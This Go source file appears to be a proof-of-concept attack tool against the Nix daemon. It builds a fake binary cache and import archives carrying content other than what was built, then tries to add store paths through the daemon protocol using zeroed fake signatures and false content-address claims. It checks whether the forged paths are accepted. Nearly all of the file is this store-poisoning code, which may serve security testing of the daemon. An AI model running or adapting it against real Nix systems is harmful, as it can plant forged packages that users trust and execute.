package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"gitlab.com/skerry/skerry/internal/nixstore/nixconn"
	"gitlab.com/skerry/skerry/internal/nixstore/nixwire"
)

// evil is what would be in the store.
const evil = "this is not what was built\n"

// archiveOf is a file as Nix archives it.
func archiveOf(contents string) []byte {
	var b bytes.Buffer
	w := nixwire.NewWriter(&b, 4096)
	for _, s := range []string{"nix-archive-1", "(", "type", "regular", "contents", contents, ")"} {
		w.String(s)
	}
	_ = w.Flush() // to memory
	return b.Bytes()
}

func hash(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// cache is a binary cache that a path can be had from, if nobody asks who says so.
func cache(dir, path string) error {
	p, err := nixwire.ParseStorePath(path)
	if err != nil {
		return err
	}
	a := archiveOf(evil)
	files := map[string]string{
		"nix-cache-info":           "StoreDir: /nix/store\nWantMassQuery: 1\nPriority: 1\n",
		"nar/evil.nar":             string(a),
		p.Base()[:32] + ".narinfo": fmt.Sprintf("StorePath: %s\nURL: nar/evil.nar\nCompression: none\nNarHash: sha256:%s\nNarSize: %d\nReferences: \n", path, hash(a), len(a)),
	}
	for name, text := range files {
		name = filepath.Join(dir, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.WriteFile(name, []byte(text), 0o644)); err != nil { //nolint:gosec // for Nix to read
			return err
		}
	}
	return nil
}

// export writes what nix-store --import reads. Source: nix src/libstore/export-import.cc.
func export(out io.Writer, path string) error {
	w := nixwire.NewWriter(out, 4096)
	w.Uint64(1)
	w.Raw(archiveOf(evil))
	w.Uint64(0x4558494e)
	w.String(path)
	w.Uint64(0)
	w.String("")
	w.Uint64(0)
	w.Uint64(0)
	return w.Flush()
}

// truth is what another path has to have, by its name.
const truth = "the truth"

// force says that the path is the daemon's own work, that its signatures need no look, that its content is what its name
// says, and all of it at once for many. Then it adds what has the name of what was forged: that is no forgery.
func force(path, socket string) error {
	named := fixedPath("evil-claimed", truth)
	for p, ca := range map[string]string{ // what is said of a path's content
		path: "", named: "fixed:r:sha256:" + hash(archiveOf(truth)), path + "-said": "fixed:r:sha256:" + hash(archiveOf(evil)),
	} {
		for op, err := range add(p, ca, evil, socket) {
			say(op, "says:", err)
		}
		valid, err := ask(socket, p)
		if err != nil {
			return err
		}
		say("forced:", valid, p)
	}
	for op, err := range add(named, "fixed:r:sha256:"+hash(archiveOf(truth)), truth, socket) {
		say("true", op, "says:", err)
	}
	return nil
}

// add adds a path in every way that the protocol has, and returns what the answers are.
func add(path, ca, contents, socket string) map[nixwire.Op]error {
	a := archiveOf(contents)
	info := []nixwire.Token{
		pathToken(path), {Kind: nixwire.OptPath, Str: nixwire.StoreDir + "/" + strings.Repeat("1", 32) + "-evil.drv"}, text(hash(a)), list(0), token(1), token(uint64(len(a))), token(1),
		list(2), text("cache.nixos.org-1:" + base64.StdEncoding.EncodeToString(make([]byte, 64))), text("evil:AAAA"), text(ca),
	}
	var many bytes.Buffer
	w := nixwire.NewWriter(&many, 4096)
	w.Uint64(1)
	nixwire.Write(w, info)
	w.Raw(a)
	_ = w.Flush() // to memory
	answers := map[nixwire.Op]error{}
	for _, way := range []request{
		{nixwire.AddToStoreNar, append(slices.Clone(info), token(0), token(1)), a},
		{nixwire.AddMultipleToStore, []nixwire.Token{token(0), token(1)}, many.Bytes()},
	} {
		answers[way.op] = try(socket, way.op, way.tokens, way.body)
	}
	return answers
}

// fixedPath is where a file with contents lies that is addressed by them. Source: nix src/libstore/store-api.cc.
func fixedPath(name, contents string) string {
	sum := sha256.Sum256([]byte("source:sha256:" + hash(archiveOf(contents)) + ":" + nixwire.StoreDir + ":" + name))
	short := make([]byte, 20)
	for i, b := range sum {
		short[i%20] ^= b
	}
	const digits = "0123456789abcdfghijklmnpqrsvwxyz"
	var path strings.Builder
	path.WriteString(nixwire.StoreDir + "/")
	for n := 31; n >= 0; n-- {
		at, bit := n*5/8, n*5%8
		c := short[at] >> bit
		if at+1 < len(short) {
			c |= short[at+1] << (8 - bit)
		}
		path.WriteByte(digits[c&31])
	}
	return path.String() + "-" + name
}

func dial(socket string) (*nixconn.Conn, nixwire.Version, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	return nixconn.Dialer{Socket: socket, Wait: 10 * time.Second}.Open(ctx)
}

// try asks for one thing and returns what the answer is.
func try(socket string, op nixwire.Op, request []nixwire.Token, body []byte) error {
	c, _, err := dial(socket)
	if err != nil {
		return err
	}
	defer c.Close() //nolint:errcheck // nothing to lose
	c.W.Uint64(uint64(op))
	nixwire.Write(c.W, request)
	if shape, _ := nixwire.Lookup(op); shape.Body == nixwire.Framed {
		f := nixwire.NewFrameWriter(c.W)
		if _, err := f.Write(body); err != nil {
			return err
		}
		f.End()
	}
	if err := c.W.Flush(); err != nil {
		return err
	}
	return c.Last(nil)
}

// ask asks whether a path is valid.
func ask(socket, path string) (bool, error) {
	c, v, err := dial(socket)
	if err != nil {
		return false, err
	}
	defer c.Close() //nolint:errcheck // nothing to lose
	valid, err := c.Root(v, []nixwire.StorePath{nixwire.StorePath(path)}, nil)
	return valid[nixwire.StorePath(path)], err
}
